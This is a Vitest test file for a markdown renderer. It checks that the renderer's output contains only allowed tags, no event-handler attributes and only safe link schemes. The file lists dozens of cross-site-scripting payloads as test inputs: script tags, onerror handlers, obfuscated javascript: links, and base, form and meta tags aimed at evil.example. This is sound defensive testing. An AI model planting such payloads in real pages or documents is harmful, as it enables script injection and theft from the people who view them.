import { describe, expect, test } from 'vitest'
import { renderDocument } from '~importers/markdown/render/render-document'

function markup(text: string): string {
  const rendered = renderDocument({ file: 'tracker.md', bytes: new TextEncoder().encode(text) })
  expect(rendered.refused).toBeNull()
  return rendered.parts
    .map((part) => (typeof part === 'string' ? part : `<!--${JSON.stringify(part.slot)}-->`))
    .join('')
}

const allowed = new Set(
  'a blockquote br code del div em h2 h3 h4 h5 h6 hr li ol p path section span strong sup svg table tbody td th thead tr ul'.split(
    ' ',
  ),
)

/** Every tag with its attributes, as a browser would find them: quotes are only ever escaped ones within. */
function tagsOf(html: string): { name: string; attributes: string }[] {
  return [...html.replace(/<!--.*?-->/gs, '').matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-zA-Z-]+(?:="[^"]*")?)*)\s*>/g)].map(
    ([, name, attributes]) => ({ name: name as string, attributes: attributes as string }),
  )
}

/** Anything that begins like a tag must have been one of the tags above. */
function strayTags(html: string): number {
  const bare = html.replace(/<!--.*?-->/gs, '')
  return [...bare.matchAll(/<[a-z!?]/gi)].length - tagsOf(html).length
}

const payloads = [
  '<script>alert(1)</script>',
  'text <script src="https://evil.example/x.js"></script> text',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>*{background:url(https://evil.example)}</style>',
  '<form action="https://evil.example"><input name=q><button>go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<div style="position:fixed;inset:0">cover</div>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](<java&Tab;script:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript%3Aalert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](\u200bjavascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/path)',
  '[x](\\\\\\\\evil.example\\\\share)',
  '[x](https://user:secret@evil.example/)',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png)',
  '![x" onerror="alert(1)](x)',
  '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '| a" onclick="alert(1) |\n|---|\n| 1 |',
  '# <script>alert(1)</script> "onclick=alert(1)',
  '# x\n\n[y](#L1" onclick="alert(1))',
  'x[^1]\n\n[^1]: <script>alert(1)</script> [z](javascript:alert(1))',
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
  '- [x] <input type=checkbox onclick=alert(1)>',
  '---\ntitle: "<script>alert(1)</script>"\nx: ["<img src=x onerror=alert(1)>"]\n---\n# y',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u{1F4A5}<scr\u0000ipt>'.replace('\u0000', ''),
]

describe('what a document holds never becomes more than text and links', () => {
  test.each(payloads)('%s', (payload) => {
    const html = markup(payload)
    const tags = tagsOf(html)
    expect(strayTags(html)).toBe(0)
    expect(tags.filter(({ name }) => !allowed.has(name))).toEqual([])
    for (const { attributes } of tags) {
      for (const [, name, value] of attributes.matchAll(/\s([a-zA-Z-]+)="([^"]*)"/g)) {
        expect(name).not.toMatch(/^on|^style$|^srcdoc$|^src$|^title$|^target$|^name$/i)
        if (name === 'href') expect(value).toMatch(/^(https?:\/\/(?![^/]*@)|mailto:|#(doc|note)-)/)
        if (name === 'id') expect(value).toMatch(/^(doc-|note-|footnote-label$|L\d+$)/)
      }
    }
  })

  test('there are more than forty of them', () => {
    expect(payloads.length).toBeGreaterThan(40)
  })
})

test('markup of the author stands as text, so that nothing he wrote is hidden', () => {
  expect(markup('a <b>bold</b> word')).toContain('&#x3C;b>')
  expect(markup('<div>\nblock\n</div>')).toContain('&#x3C;div>')
})

test('a mark of ours cannot be written by an author', () => {
  const html = markup('<!--0123:open:1-1--> `<!--close:1-1-->` [x](https://a.example "<!--close:1-1-->")')
  expect(html.match(/<!--"open"-->/g)).toHaveLength(1)
  expect(html.match(/<!--"close"-->/g)).toHaveLength(1)
})
